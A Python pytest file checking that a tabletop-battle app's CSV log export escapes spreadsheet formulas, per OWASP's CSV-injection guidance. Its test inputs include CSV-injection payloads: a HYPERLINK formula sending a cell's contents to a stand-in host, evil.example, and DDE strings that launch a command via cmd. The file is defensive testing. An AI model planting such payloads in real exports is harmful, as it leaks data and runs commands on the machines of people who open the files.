"""The combat log's CSV export never hands a spreadsheet a formula (OWASP's CSV-injection rule)."""

import csv
import io

import pytest

from muster.services.export import FORMULA_START, log_csv, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_escaped(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("Guard Pikes") == "Guard Pikes" and safe_cell(-3) == -3


def test_log_export_escapes_names_and_text_from_the_campaign(service):
    from muster.services import battle, generic, roster

    side = roster.create_side(service, HOSTILE[0])
    force = roster.create_force(service, side, HOSTILE[1])
    a = roster.create_unit(service, force, HOSTILE[2], state={"max_hits": 9})
    b = roster.create_unit(service, force, HOSTILE[3], state={"max_hits": 9})
    battle_id = battle.start_battle(service, HOSTILE[5], "generic", [a, b])
    generic.attack(service, battle_id, a, b)
    rows = list(csv.reader(io.StringIO(log_csv(service))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(HOSTILE[2] in cell for cell in cells), "the names are there, as text"
    for cell in cells:
        assert not cell.startswith(FORMULA_START), cell
